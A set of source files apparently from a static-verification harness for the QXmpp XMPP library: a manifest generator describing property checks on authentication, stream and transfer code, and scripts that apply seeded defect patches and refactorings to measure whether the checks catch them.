            'routing unreachable; empty from: stamped from the authenticated jid on every routed path; the password-reply handler is explored per checker verdict. The base password checker reports a failed lookup and hands out no digest for it.',
            'Behaviour over all client scripts on real sockets and third-party server extensions is not decided; the password checker is trusted.', 'DESIGN.md §2 C16'),
    'C17': ('region map of every message field in the writer and the reader: the set of SceMode values under which each read/write is reachable (abstract evaluation per mode, mode guards evaluated not matched, composed across lambdas and same-file helpers) + compile-time witness of the mode predicate',
            'Static: each QXmppMessagePrivate field read in serializeExtensions / written in parseExtension (and in the helpers they hand the message to) is assigned the set of modes under which that access is reachable; the conversational '
            'fields named by the property may only appear under the Sensitive guard (a leak is one element outside its guard, visible as region membership for every message at once), '
            'each field in exactly one part, writer and reader agree; operator&(SceMode,SceMode) is decided by the compiler for all 9 pairs; the encrypted send path passes the constant ScePublic. The encrypted message is never handed to the wire as an object (which would serialize it with SceAll). The pass driver parseExtensions writes no field owned by one part outside the matching mode guard.',
            'Value-level recovery of every field after the two-pass parse and unknown application extensions are not decided; OMEMO code is not part of the configured build.', 'DESIGN.md §2 C17'),
    'C05': ('compile-time witness (1444 static_asserts over every ordered pair of the finite mechanism universe, decided by g++ with the project flags) + structural rules on the chooser over the clang AST',
            'Static: the strength order used by std::ranges::max is std::variant\'s operator< on the mechanism type; it is constexpr, so the compiler decides, for all 38x38 ordered pairs, that it agrees with '
            '"token > SCRAM by hash strength > DIGEST-MD5 > PLAIN > ANONYMOUS" (exhaustive, not sampled). The chooser must keep its stages (disabled filter first, parse, drop unknown, availability filter), '
            'return nothing iff no candidate, the preferred one only under contains(candidates, preferred), otherwise ranges::max with the default order; availability arms read exactly the credential their '
            'mechanism consumes; no sendData is reachable when initSaslAuthentication reported an error. Mechanism names are parsed exactly (a name with a foreign suffix such as -PLUS is never taken for an implemented mechanism).',
            'Trusts libstdc++ views/max; chooseMechanism and onSasl2Authenticate are analysed on clang 14\'s error-recovered AST (degraded; the vector-from-view initialisation is assumed).', 'DESIGN.md §2 C05'),
    'C01': ('writer/reader name-agreement analysis over all ~144 codec classes (resolved QXmlStreamWriter/QDom call facts per class closure), table/enumerator and toString/fromString sibling agreement, typed-helper bounds, single-consumption and escaping (who-may-write-raw) rules',
            'Static, structural necessary conditions of round-trip identity for every codec class at once: names written from fields ⊆ names read; root written = root accepted; enum tables match enumerators and no reachable '
            'index is out of range; every string a toString can produce is accepted by its fromString; stringToInt<T> uses T\'s own limits; typed children are not re-captured generically; values reach the output only '
            'through escaping QXmlStreamWriter calls and element/attribute names are never free text. It found four genuine round-trip defects the 388 test rows miss. Also: parsers use no descendant-axis look-ups (one listed, reasoned exception), and the sign of a formatted time-zone offset is decided on the whole value.',
            'Does not decide value-level equality after a round trip (dates, base64, whitespace, numeric formatting), optional-field combinations or sibling order; element names are matched class-wide (a reader that '
            'iterates over all children accepts any child name).', 'DESIGN.md §2 C01'),
    'C02': ('definite-initialisation analysis of scalar members at every creation site (with constructor / setter / parse must-assign summaries), int-to-enum cast guard check, intraprocedural taint from parsed text and wire integers to size/index/loop sinks, single-consumption rule; positive controls',
            'Static: for every value record of the library each scalar member without default initialiser must be initialised by every user constructor or assigned on every path after each default-initialising '
            'creation (found 8 indeterminate members, 7 demonstrated with perturbed memory); integers become enums only behind a check of that integer; sizes, indices and loop bounds derived from attributes, '
            'text or QDataStream reads are dominated by a bound (16-bit wire lengths bound allocations by type); typed children are not re-captured (fix-point). Zero-expected rules must fire on controls/c02_controls.cpp on every run. Also: every DOM sibling loop guarded by isNull() advances its node on every path back to the loop head (termination of the list parsers). Also: no value flows between sibling parse arms of a per-child dispatch, no counting loop runs up to a caller-supplied unsigned bound with <=, and objects collected by a parse loop are fresh in every iteration.',
            'Absence of crashes/UB in general, termination and memory bounds for deeply nested input, and value-level idempotence are not decided (need execution under sanitizers); QObject-derived classes are excluded from R1.', 'DESIGN.md §2 C02'),
    'C03': ('dataflow from socket reads to byte-to-text decoders in every readyRead slot + must-clear of all receive-state members in the stream-restart slots',
            'Static: a value derived from readAll()/read() may not reach a stateless decoder (QString::fromUtf8 etc.) except from a member accumulator decoded up to a computed boundary, or through a stateful decoder member; '
            'all receive-state members (discovered as the text/byte members written by the receive path) are cleared before started() in both restart slots. This is the structural necessary condition that the one '
            'hand-picked ASCII split of the test-suite cannot probe (found and fixed: per-read stateless UTF-8 decoding). Also: the chunk of one read is only appended (no decision, log or event of processData looks at it), and the byte comparisons of the hand-written complete-character boundary separate the five UTF-8 byte classes. The events parsed from one buffer are emitted in document order (open, stanzas, close) on every path.',
            'That the accumulate/wrap/DOM-parse strategy yields the same event sequence for every partition (regex anchoring, keep-alives, \'>\' in attribute values) is behaviour of QRegularExpression/QDomDocument on runtime strings and is not decided.', 'DESIGN.md §2 C03'),
    'C06': ('abstract evaluation of the SCRAM and DIGEST-MD5 client step functions under hostile server inputs (sink reachability per step) + dominance of the success report by a mechanism check + def-use roles of the key labels',
            'Static, refusal half only: for "nonce does not extend ours", "empty salt", "0 iterations" no PBKDF2/HMAC/hash call and no response is reachable; a wrong server signature / rspauth cannot yield a result; every accepting '
            'path advances the step counter and steps past the end are refused; the SASL and SASL 2 managers may complete with success only behind a check on the mechanism object and must hand success data to it (found the early-<success/> defect, '
            'fixed); proof derives from "Client Key", stored signature from "Server Key", one hash algorithm source. A challenge the mechanism rejects ends the exchange on every path.',
            'That the response bytes equal what RFC 5802/2831/HT prescribe for all credentials, salts and nonces (normalisation, quoting grammar) is a value-level claim needing an independent implementation at run time: not decided.', 'DESIGN.md §2 C06'),
    'C07': ('typestate path exploration (finish/erase pairing on the request table; promise must-complete over every function and continuation holding a QXmppPromise, with latch and zero-iteration handling) + abstract evaluation of the reply handler per hostile reply + must-call of cancellation on session ends',
            'Static: on every path of handleStanza/finish/cancelAll a completion is followed by the erase of that entry and nothing is erased uncompleted; the table has a closed writer set; for each hostile reply class (not <iq/>, request-typed, '
            'unknown id, foreign non-empty from) no completion or erase is reachable and false is returned; requests need a valid unused id and an addressee; destructor, non-resumed session open and non-resumable close cancel everything; '
            'every function/lambda holding a promise finishes it once or hands it on on all paths (85 holders; zero-iteration loops checked; found and fixed the MAM empty-page hang). A request is registered before it is sent; the "stream resumed" flag consulted at session start is reset for every new stream.',
            'Interleavings of several outstanding requests with reconnects, completion order, and that a remote entity ever replies are history-level and not decided; latch arithmetic is trusted; negotiation-internal promises are left to C10.', 'DESIGN.md §2 C07'),
    'C08': ('exhaustive path exploration of all 17 handleStanza overrides per IQ type with reply counting through same-file helpers, continuations and the verified typed-helper summary; fall-back and helper contracts checked separately',
            'Static, decided at path level for the code in /repo/src/client: for each extension and each IQ type (get/set/result/error) every path that claims the stanza must have sent exactly one result/error IQ for a request (or stored the request id for a deferred reply) '
            'and nothing for a response; predicates over the element are folded under the abstract type, repeated predicates are correlated; the typed helper (handleIqRequests/handleIqType/processHandleIqResult/sendIqReply/checkIsIqRequest) is verified to mean "true => replied exactly once"; '
            'both fall-backs answer get/set once with the request id/sender and stay silent for result/error. Found 9 managers swallowing requests or answering responses (13 concrete inputs replayed), all fixed. The element predicate of every payload class served by the typed helper accepts exactly what the helper handles, and the helper addresses the reply with the id and sender of the request.',
            'What applications or third-party extensions do in their own handleStanza or in slots of emitted signals, and whether a reply\'s content is right, are outside the analysis.', 'DESIGN.md §2 C08'),
    'C09': ('typestate/path exploration of the five functions that touch the unacknowledged-stanza map, abstract evaluation per (enabled, stanza) and per received tag, call-order and who-may-write rules',
            'Static: "acknowledged" is constructed only under key <= h with report/erase paired per entry; internalSend stores (key ++counter) iff enabled && stanza and otherwise reports exactly once, for all 4 combinations; '
            'onResumed drops the prefix covered by resumed.h before resending without renumbering and enable renumbers from a saved copy after zeroing both counters; both negotiation routes (nonza handler and SASL2/bind2 inline) reach them; '
            'the inbound counter changes by exactly 1 for message/presence/iq and 0 for <a/>, <r/> and other nonzas, has two writers, and is what <a/> and <resume/> carry. <resumed h/> takes effect although stream management is re-enabled only afterwards, and no consumer of a received stanza runs before the inbound counter. Every counter of the acknowledgement manager restarts with a fresh session.',
            'History-level statements (exactly the uncovered stanzas are resent for every sequence of sends, acks and losses; counter wrap) need a model of histories and are not decided.', 'DESIGN.md §2 C09'),
    'C10': ('effect analysis (write set of everything reachable from the negotiation handlers vs must-reset sets of the stream-start / disconnect / close paths, with explicit persistent / set-before-use / consumed-on-use tables) + closed writer sets and must-call on the disconnect paths',
            'Static: each of the 27 per-connection leaf fields written during negotiation (continuations included) must be reset on every path of handleStart, of the socket restart slots, of _q_socketDisconnected or of closeSession, or be set from the stream features before every use, '
            'or be consumed where it is used, or be in the persistent table with a reason (found and fixed: bind2Bound leaking into the next attempt); sessionStarted/connected only in openSession whose call sites are last steps; isAuthenticated only in the three authentication continuations; '
            'every disconnect path clears isAuthenticated and retries or closes the session, which clears, notifies and emits on every path; each new stream resets the listener. A deliberate disconnect informs the stream manager before the socket is closed; stream-management session counters are accepted when the reset branch of enableStreamManagement zeroes them.',
            'That a following attempt succeeds, at-most-once per connection under arbitrary server scripts and behaviour at each cut point are history properties over the network: not decided.', 'DESIGN.md §2 C10'),
    'C13': ('dominance / control-dependence rules on every instantiation of QXmppPromise<T>::finish (77) and QXmppTask<T>::then (70) found in the library units, plus who-may-call on the shared record',
            'Static, at the level of the primitive\'s code shape: the continuation is invoked only behind continuation() && isContextAlive(); setFinished(true) dominates everything; the value is stored exactly on the no-continuation edge; '
            'a late then() runs the functor only behind isFinished() && hasResult(), with the stored value, and resets it on the same path; the registered wrapper checks the context and clears itself on every path; the shared record frees values; '
            'only the promise/task templates touch it. Template code is analysed through all its instantiations, so a per-specialisation slip (e.g. only the void overload) is seen. The continuation stored by then() does not capture the shared record, and the members of the record are written only by their setters.',
            'The full interleaving semantics (re-entrancy from inside a continuation, copies dropped in every order, leak-freedom) need model checking or sanitizers: not decided.', 'DESIGN.md §2 C13'),
    'C14': ('table extraction and comparison of the encoder and decoder (attribute types, fixed lengths, padding), abstract evaluation of the integrity/fingerprint arms, flag-sensitive exploration of the keyed decode, wire-length taint rule, recomputation of the CRC table from its polynomial',
            'Static: the 25 attribute types written by encode() each have a decoder arm with the same fixed length, variable-length values are padded; a wrong HMAC (under a key) or CRC makes decode() return false; encode and decode patch the length with the same +24/+8 and use the same fingerprint mask; '
            'after MESSAGE-INTEGRITY only FINGERPRINT is processed; under a non-empty key no path returns true without having passed the HMAC comparison (found and fixed); wire lengths are bounded by type or a dominating check and the loop advances; '
            'crctable equals the table generated from 0xEDB88320; the HMAC helper hashes long keys (found and fixed). No value buffer is sized by an attribute length that exceeds the rest of the message; MESSAGE-INTEGRITY and FINGERPRINT are compared in full (never as C strings or prefixes). Opaque byte attributes are written raw; the address family written is the protocol() of the address.',
            'That HMAC/CRC outputs equal the RFC values for all inputs, decode∘encode = id at value level and "no crash for arbitrary bytes" beyond the length rule are numerical/runtime claims: not decided.', 'DESIGN.md §2 C14'),
    'C15': ('enumeration of all connectivity-state-changing atoms of the ICE datagram handler (field writes, calls) and abstract evaluation under "decode fails" / "no session password" (sink reachability), plus the flag-sensitive keyed-decode exploration shared with C14',
            'Static, safety half: the 10 state-changing atoms of handleDatagram (learn candidate, create/nominate pair, triggered check, feed transaction, select active pair, connected(), binding response) are unreachable when the keyed decode fails and when no session password is set; '
            'the password is chosen by message class symmetrically to the sender and is the decode key; a keyed decode cannot succeed without a verified MESSAGE-INTEGRITY; responses reach their transaction only after id and source-address match; activePair/connected only under pair->nominated. An authenticated USE-CANDIDATE request is honoured for every state of its pair (nominated at once, nominating while a check is pending, or a nominating check is started). The MAC comparison the handler relies on is complete (value chain of both operands), and every datagram is delivered with its own length.',
            'Liveness (two honest agents connect, under loss), candidate/pair priority values and datagram pass-through are schedule/numeric claims: not decided.', 'DESIGN.md §2 C15'),
    'C18': ('abstract evaluation of the trust-message decision code for all 8 combinations of (own account, key owner, sender key authenticated) with operand identity checks, closed call-structure (who-may-call) rules around authenticate/setTrustLevel(Authenticated), promise typestate',
            'Static: in the decision continuation the apply-sets are reachable exactly for qualified ∧ authenticated, the postponed list exactly for qualified ∧ ¬authenticated, nothing otherwise (exhaustive over the 8 combinations); the three tests compare the sender\'s bare JID with the own bare JID / key owner JID and the trust level delivered for (encryption, sender, e2ee sender key) with Authenticated; '
            'own-device reflections and non-ATM elements are ignored; authenticate()/distrust()/makePostponedTrustDecisions()/setTrustLevel(Authenticated) have closed caller sets; postponed decisions are fired only after authentication with the just-authenticated keys, removed before being applied and discarded by distrust; the policy arm is guarded.',
            'Conformance to the XEP-0450 reference model over all histories of decisions, and the correctness of the storage back-ends, are not decided.', 'DESIGN.md §2 C18'),
    'C19': ('type-width agreement between the wire field and the per-job counters (record facts), abstract evaluation of the receiving handlers and of the final verdict under hostile inputs, who-may-declare-success call-structure rule',
            'Static: the IBB block counter, the receiver\'s expectation and QXmppIbbDataIq::m_seq have the same unsigned 16-bit type (so both sides wrap at 65536); in ibbDataIqReceived a block is written and the expectation advanced only for a job found by (sender, session id) in transfer state with the expected sequence number, rejected blocks get an error reply; the open handler bounds the block size; the close handler and the SOCKS5 paths delegate the verdict to checkData(); '
            'checkData() cannot reach terminate(NoError) when a size was announced and differs or a hash was announced and differs; writeData counts the bytes the device accepted and hashes the same buffer. The SOCKS5 receive slot drains the socket; an announced size of 0 (unknown) never enters arithmetic or comparisons unguarded.',
            'Byte-for-byte equality of delivered and sent content for all sizes and loss patterns, and detection of corruption when the offer carries neither size nor hash, are not decided.', 'DESIGN.md §2 C19'),
    'C20': ('sort-before-use dataflow with comparator classification (i;octet), exhaustive abstract evaluation of the identity comparator over the 81 orderings of its four keys, separator typestate over all paths of verificationString and of the helpers it hands the hashed string to (helper summaries), one-source and recompute-at-emission call-structure rules',
            'Static: in verificationString every loop that appends to the hashed string iterates a local copy sorted after its last mutation with a UTF-8 byte-order comparator; features are de-duplicated; multi-values are sorted before join("<"); '
            'the identity comparator returns the strict lexicographic order on (category, type, xml:lang, name) for all 81 orderings and the hashed identity string uses the same accessors in that order; every piece is terminated by "<" on every path; FORM_TYPE is taken out of the map and hashed first; SHA-1 over UTF-8, presence says sha-1; '
            'the advertised ver and the disco#info answer both derive from QXmppDiscoveryManager::capabilities() (answer modified only by setQueryNode), ver is only set by addProperCapability, which precedes every emission of the available client presence. Every multi-valued data form field type reaches the sorted join.',
            'Equality with an independent XEP-0115 implementation for all inputs (values containing "<", duplicate keys, several forms) and staleness after addExtension() on a live session without a new presence are not decided.', 'DESIGN.md §2 C20'),
}

# sentences appended to the level text: rules added after the seeded campaign of round 3 (DESIGN.md §8.1)
EXTRA = {
    'C01': 'Reader-shape rules with positive controls: no read guarded by the value of another attribute, multi-valued members only grow while parsing, the text-to-integer conversion is as wide as the member it fills. Round-4 rules: attributes are written before any content of their element (typestate over QXmlStreamWriter calls with helper summaries); readers store text as read (no trimmed/toLower between DOM and member); a parsed child is kept or dropped by emptiness only; a local list collecting read values is not de-duplicated or reordered. Round-5 rules: a record built positionally gets, member by member, the element its writer emits for that member; an optional member is written by engagement, not by value comparison; an unsigned text conversion does not fill a signed member of the same width; the catch-all exclusion of a typed child is not narrower than what the writer emits.',
    'C02': 'A DOM loop advances only through a value that moves (loop heads of short-circuit conditions included); a table indexed by an enum value covers every enumerator the index can hold. First elements are taken only of non-empty lists; a listener object completes only moved-out promises when a continuation replaces the listener variant that owns it. Saved DOM text is not cut by tag literals; offsets are not formatted through QTime and the largest accepted offset is writable; integers survive the second pass (shared with C01.R11); an element check does not insist on the presence of an attribute its writer may omit.',
    'C03': 'processData never discards accumulated text after a failed parse or by size; the backward scan of a hand-written UTF-8 boundary can inspect the last three bytes (trip bound), also when it lives in a helper. Not-yet-parsed text is never rewritten in place; no receiver restructures (removeChild / appendChild / clear) a DOM node it was handed (positive control). A helper that counts held-back bytes does not return bool; a whitespace keep-alive read alone is not an unclaimed element; the closing tag is reported only while the connection it was read from is still open.',
    'C04': 'No negotiation manager of an earlier connection is listening when a new stream starts (shared with C10.R4).',
    'C05': 'The list handed to the chooser is the offered list, only ever extended. A failed SASL outcome ends in the error report: no other authentication is started behind a mechanism mismatch.',
    'C06': 'No credential-derived text is assembled with chained QString::arg() (positive control). Configuration members handed to the SASL client are stored verbatim (no case folding / trimming); <success/> with data the mechanism merely accepts is refused while the mechanism is incomplete. isComplete() of SCRAM is the flag set behind the matching signature; a name table indexed by an enum agrees with it index by index.',
    'C07': 'A table entry is erased and then completed (never completed while still in the table); a deliberate disconnect tells the stream manager before the socket closes, so the session-end handler cancels the outstanding requests (shared with C10.R5). The session-begin member the IQ table tests is, by position, the one filled from the stream manager\'s resumed state.',
    'C13': 'Every QXmppPromise<T> with non-void T hands the shared record a deleter for T (all instantiations in the build plus instantiation witnesses for bool, int, enum, pointer, empty struct, QString). Connection bookkeeping members of the shared record are tolerated; their writers are still confined (R7).',
    'C14': 'The HMAC key preparation hashes exactly the keys longer than the block (boundary decided at size == B); decode stores text attributes as read. A hash object gets no data after result() without reset() (through helpers); attribute-type numbers are pairwise distinct.',
    'C08': 'Consumers ahead of the extension pipeline never claim a get/set; a slot that answers a stored request is one-shot. The shared element predicate and the typed request helper both select the first child element. The retry driver that answers a stored offer answers or arms the next attempt on every path.',
    'C09': 'The loops that re-register / resend unacknowledged stanzas have no early exit. Counters restart on every path of the reset branch; the unacknowledged stanzas live in an ordered map.',
    'C10': 'A deliberate disconnect tells the stream manager before the socket closes (effect order through helpers); every timer the connection code starts is stopped on the connection-lost path. Receive state of the socket is cleared in both restart slots (shared with C03.R2); what the disconnect handler branches on is written before the socket is closed; the stream is resumable only when the received <enabled/> granted it. The session-begin record is wired to the resumed state (shared with C07.R7); the resumption address is offered only while the stream is resumable; an established session is closed before a redirect is followed.',
    'C11': 'The own address the sender is compared with is computed from the current user/domain, or its cache is invalidated by every writer of them. (generalised: any member jidBare() answers from besides user and domain follows every writer of them). injectMessage does not move the message into a by-value parameter before presenting it.',
    'C12': 'Every pushed item that is not a removal is stored on every path of the loop body. After resource binding user and domain are set from the bound address; the cache is addressed by the received bare JID on every side (no one-sided case folding). The roster result is delivered directly, not through the event loop.',
    'C15': 'The keyed-decode verdict is followed through a decode helper; every datagram is decoded into a fresh message object. The capacity offered to readDatagram is the pending datagram size; the periodic check timer is stopped only behind a nominated pair or in the teardown.',
    'C16': 'On the asynchronous edge the identity is the user name stored with the request, answers that arrive after their exchange ended are ignored, and a dropped SASL 2 request ends the exchange. XmppSocket::disconnectFromHost closes the attached socket on every path unless every refusing edge of the server discards the SASL exchange itself. Every call on the password checker is a virtual dispatch.',
    'C17': 'With an encryption extension installed no message given to sendSensitive takes the plain path. An element predicate that routes a child into a sensitive field insists on nothing its class\'s writer emits only conditionally (evaluated per enumerator where the predicate exempts one). A recognised sensitive element is consumed on every path of its arm (never handed to the unknown extensions).',
    'C18': 'The decision code is evaluated per sender-key trust level; a held-back decision is identified by key id, owner and sender key in the storage. The sender key\'s level comes from the storage only (no level constant in trustLevel()); within one message distrust runs in the continuation of authenticate. No object state in function-local statics of the trust managers; postponed decisions are fired with the parameter\'s own key list.',
    'C19': 'The (sender, session id) lookup returns a job only where both were compared; after an error reply the first terminate() (helpers included) is an error. A destination file the job opens starts empty (write-only or Truncate); the file hash is stored in the description before the offer is made. Byte count, block counter and running hash only move forward during a job\'s life.',
    'C20': 'The disco#info serialiser writes every identity and feature the hash covers; what is sent is the stored presence whose hash was recomputed. The hashed form is the received form (data-form parser keeps every value, unconverted); no signal is emitted between recomputing the hash and sending the presence. findExtension<T>() returns the first match in list order (the manager that is hashed is the one that answers).',
}

NOT_APPLICABLE_REASON = 'check not built yet in this session (see DESIGN.md); listed here until qxverif/rules/<id>.py exists'


def main():
    props = [json.loads(l) for l in open(os.path.join(HERE, 'properties.jsonl'))]
    checks = []
    na = []
    for p in props:
        pid = p['id']
        have = os.path.exists(os.path.join(HERE, 'qxverif', 'rules', pid + '.py'))
        if have and pid in TABLE:
            tech, text, note, ref = TABLE[pid]
            if pid in EXTRA:
                text = text + ' Also: ' + EXTRA[pid]
            checks.append({
                'property_id': pid,
                'quick_cmd': './check %s --tier quick' % pid,
                'thorough_cmd': './check %s --tier thorough' % pid,
                'evidence_file': 'evidence/%s.json' % pid,
                'replay_cmd_template': './check %s --replay {path}' % pid,
                'engine': 'qxv',
                'level_claimed': {'category': 'other', 'text': text, 'design_ref': ref},
                'level_note': note,
                'technique': tech,
            })
        else:
            na.append({'property_id': pid, 'reason': NA.get(pid, NOT_APPLICABLE_REASON)})
    m = {
        'version': 1,
        'setup_cmd': 'make -C /verif',
        'hooks': {
            'guard': 'QXMPP_VERIF',
            'enable': 'none needed: every rule reads the unmodified sources of /repo; no hook code exists',
            'baseline_off_cmd': 'cmake -S /repo -B /repo/_build -G Ninja -DBUILD_INTERNAL_TESTS=ON && cmake --build /repo/_build && '
                                'ctest --test-dir /repo/_build -j8 --timeout 900',
            'source_commits': [],
            'add_only': True,
        },
        'engines': [{
            'name': 'qxv',
            'path': 'tool/qxv.cc + qxverif/',
            'serves_properties': [c['property_id'] for c in checks],
            'kind_free_text': 'clang-14 libTooling fact extractor (typed AST + CFG of every function, lambda and template instantiation '
                              'of the 127 library units from the real compile database) and repository-specific static rules in python: '
                              'dominance/edge assertions, finite-domain abstract evaluation of branch conditions (looking into small boolean helpers, local lambdas and free operator overloads of the repository), typestate path exploration, '
                              'call-graph closures with Qt signal/slot, timer and continuation edges, codec name agreement, compile-time witnesses',
        }],
        'checks': checks,
        'not_applicable': na,
        'notes': 'Static analysis only: nothing from qxmpp is executed by any check. exit 0 = held (known findings printed as KNOWN-FINDING), '
                 'exit 1 = VIOLATION, exit 2 = analysis broken (anchor gone / parse failure / instance floor not met). replays/ holds concrete '
                 'reproductions of the genuine defects used for triage only; they are not part of any check.',
    }
    with open(os.path.join(HERE, 'MANIFEST.json'), 'w') as f:
        json.dump(m, f, indent=1)
    print('checks:', [c['property_id'] for c in checks], 'n/a:', len(na))


NA = {}

if __name__ == '__main__':
    main()
