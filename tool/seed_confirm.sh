#!/bin/bash
# tool/seed_confirm.sh C07 A : confirm a sub-agent's seeded change in its scratch worktree /tmp/seed/C07:
#   patch applies, library builds, test suite passes (ice connection test excluded: needs Internet),
#   demo shows the violation with the change and not without it.  Prints a summary; writes /tmp/seed/C07/_seed/A/confirm.log
id=$1; v=$2
wt=${SEED_DIR:-/tmp/seed}/$id; sd=$wt/_seed/$v
log=$sd/confirm.log
: > $log
git -C $wt checkout -q -- src || exit 2
if ! git -C $wt apply --check $sd/patch.diff 2>>$log; then echo "RESULT patch-does-not-apply"; exit 1; fi
git -C $wt apply $sd/patch.diff
if ! ninja -C $wt/_build >>$log 2>&1; then echo "RESULT build-fails"; git -C $wt checkout -q -- src; exit 1; fi
ctest --test-dir $wt/_build -j6 --timeout 900 -E tst_qxmppiceconnection >>$log 2>&1
failed=$(grep -E "^\s+[0-9]+ - tst_" $log | awk '{print $3}' | sort -u)
for t in $failed; do
  if ctest --test-dir $wt/_build -R "^$t\$" --timeout 900 >>$log 2>&1; then failed=$(echo $failed | sed "s/\b$t\b//"); fi
done
failed=$(echo $failed | xargs)
echo "tests-with-change: ${failed:-all pass}" | tee -a $log
echo "--- demo WITH change" >>$log
(cd $sd && timeout 600 bash ./build.sh) > $sd/out_with.txt 2>&1; rc_with=$?
cat $sd/out_with.txt >>$log
git -C $wt checkout -q -- src
ninja -C $wt/_build >>$log 2>&1
echo "--- demo WITHOUT change" >>$log
(cd $sd && timeout 600 bash ./build.sh) > $sd/out_without.txt 2>&1; rc_without=$?
cat $sd/out_without.txt >>$log
echo "demo rc with=$rc_with without=$rc_without" | tee -a $log
echo "== with (tail):"; tail -5 $sd/out_with.txt
echo "== without (tail):"; tail -5 $sd/out_without.txt
