#!/usr/bin/env python3
"""Run the registered checks against the confirmed seeded changes in /verif/seeded/<name>/patch.diff.

  tool/seeded.py [name-prefix] [--tier thorough] [--all-checks]
For each change: git -C /repo apply patch.diff ; ./check <property> ; git -C /repo checkout -- . (always undone).
Prints CAUGHT (exit 1 with a VIOLATION line) / MISSED (exit 0) / BROKEN (exit 2) and the first violation line."""
import glob
import json
import os
import subprocess
import sys

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def main():
    args = [a for a in sys.argv[1:] if not a.startswith('--') and a not in ('thorough', 'quick')]
    tier = 'thorough' if '--tier' in sys.argv and 'thorough' in sys.argv else 'quick'
    flt = args[0] if args else ''
    res = {}
    base = os.path.join(HERE, 'seeded', flt + '*')
    for a in sys.argv[1:]:
        if a.startswith('--dir='):
            base = os.path.join(a[6:], '*')     # pre-screen deliverables of a sub-agent that are not kept yet: --dir=/tmp/seed2/C07/_seed
    for d in sorted(glob.glob(base)):
        pf = os.path.join(d, 'patch.diff')
        if not os.path.exists(pf):
            continue
        try:
            meta = json.load(open(os.path.join(d, 'meta.json')))
        except Exception:
            meta = {}
        prop = meta.get('property') or [x for x in d.split('/') if len(x) == 3 and x[0] == 'C' and x[1:].isdigit()][-1]
        st = subprocess.run(['git', '-C', '/repo', 'status', '--porcelain', '--untracked-files=no'], stdout=subprocess.PIPE, text=True).stdout.strip()
        if st:
            print('refusing: /repo has local changes:\n' + st)
            return 2
        props = [prop] if '--all-checks' not in sys.argv else ['C%02d' % i for i in range(1, 21)]
        try:
            if subprocess.run(['git', '-C', '/repo', 'apply', pf], stderr=subprocess.DEVNULL).returncode != 0:
                # the tree has moved on (a later fix: commit touched the same lines): apply with fuzz, or report the change as stale
                subprocess.run(['git', '-C', '/repo', 'checkout', '--', '.'], check=True)
                r = subprocess.run(['patch', '-p1', '-s', '--fuzz=3', '--no-backup-if-mismatch', '-r', '-', '-i', pf], cwd='/repo', stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
                if r.returncode != 0:
                    print('%-7s %-28s %s patch no longer applies to /repo (needs a rebase): %s' % ('STALE', os.path.basename(d), prop, r.stdout.strip().splitlines()[-1:] ))
                    res[os.path.basename(d)] = 'STALE'
                    continue
            for p in props:
                r = subprocess.run([os.path.join(HERE, 'check'), p, '--tier', tier], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                   env=dict(os.environ, QXV_EVIDENCE_DIR='/verif/.work/seeded-evidence'))
                lines = [l.strip() for l in r.stdout.splitlines() if l.startswith('  ' + p)]
                verdict = {0: 'MISSED', 1: 'CAUGHT', 2: 'BROKEN'}.get(r.returncode, 'rc=%d' % r.returncode)
                if p == prop or r.returncode != 0:
                    print('%-7s %-28s %s %s' % (verdict, (prop + '/' if '--dir=' in ' '.join(sys.argv) else '') + os.path.basename(d), p, (lines[0][:170] if lines else r.stdout.strip().splitlines()[-1][:170])))
                if p == prop:
                    res[os.path.basename(d)] = verdict
        finally:
            subprocess.run(['git', '-C', '/repo', 'checkout', '--', '.'], check=True)
    print('%d seeded changes: %d caught, %d missed, %d broken' % (len(res), sum(v == 'CAUGHT' for v in res.values()), sum(v == 'MISSED' for v in res.values()),
                                                                 sum(v not in ('CAUGHT', 'MISSED') for v in res.values())))
    return 0


if __name__ == '__main__':
    sys.exit(main())
