#!/bin/bash
# tool/seed_keep.sh C05 A : keep a confirmed seeded change as /verif/seeded/C05-A/
id=$1; v=$2
sd=${SEED_DIR:-/tmp/seed}/$id/_seed/$v; dst=/verif/seeded/$id-${SEED_TAG}$v
mkdir -p $dst
cp $sd/patch.diff $dst/patch.diff
for f in demo.cpp build.sh out_with.txt out_without.txt; do [ -f $sd/$f ] && cp $sd/$f $dst/; done
for f in $sd/*.h $sd/*.hpp $sd/CMakeLists.txt $sd/*.pro; do [ -f "$f" ] && cp "$f" $dst/; done
sed -i "s#${SEED_DIR:-/tmp/seed}/$id/_seed/$v#\$(dirname \"\$(readlink -f \"\$0\")\")#g; s#=${SEED_DIR:-/tmp/seed}/$id\b#=\${QXMPP_TREE:-/tmp/seed/$id}#g" $dst/build.sh 2>/dev/null
python3 - "$sd" "$dst" "$id" "$v" <<'P'
import json, sys, os
sd, dst, pid, v = sys.argv[1:5]
try:
    meta = json.load(open(os.path.join(sd, 'meta.json')))
except Exception as e:
    meta = {'property': pid, 'summary': 'meta.json of the sub-agent unreadable: %s' % e}
meta['property'] = pid
log = open(os.path.join(sd, 'confirm.log')).read().splitlines()
meta['confirmed_by_main_session'] = {
    'worktree': '/tmp/seed/%s (scratch worktree of /repo HEAD, removed afterwards)' % pid,
    'tests_with_change': [l for l in log if l.startswith('tests-with-change')][-1:],
    'demo': [l for l in log if l.startswith('demo rc')][-1:],
    'note': 'build.sh expects QXMPP_TREE to point to a built tree (sources + _build) with or without the patch',
}
json.dump(meta, open(os.path.join(dst, 'meta.json'), 'w'), indent=1)
P
ls $dst
