#!/usr/bin/env python3
"""Import behaviour-preserving refactorings delivered by the refactoring sub-agents
(/tmp/refac/<id>/_seed/<V>/{patch.diff,meta.json}) as neutral self-test variants."""
import json, glob, os, shutil, sys
tag = os.environ.get('REFAC_TAG', 'r')        # REFAC_TAG=r2 for the second campaign
root = sys.argv[1] if len(sys.argv) > 1 and sys.argv[1].startswith('/') else '/tmp/refac'
ids = [a for a in sys.argv[1:] if not a.startswith('/')]
n = 0
for pid in ids:
    for d in sorted(glob.glob('%s/%s/_seed/[A-E]' % (root, pid))):
        v = d.split('/')[-1]
        try:
            meta = json.load(open(d + '/meta.json'))
        except Exception:
            meta = {}
        name = '%s-%s-%s' % (pid, tag, v)
        shutil.copy(d + '/patch.diff', '/verif/selftest/neutral/patches/%s.diff' % name)
        json.dump({'property': pid, 'expect': 'PASS',
                   'why': 'independent refactoring (%s): %s' % (meta.get('kind', '?'), (meta.get('summary') or '')[:200]),
                   'patch': 'neutral/patches/%s.diff' % name,
                   'why_equivalent': (meta.get('why_equivalent') or '')[:600],
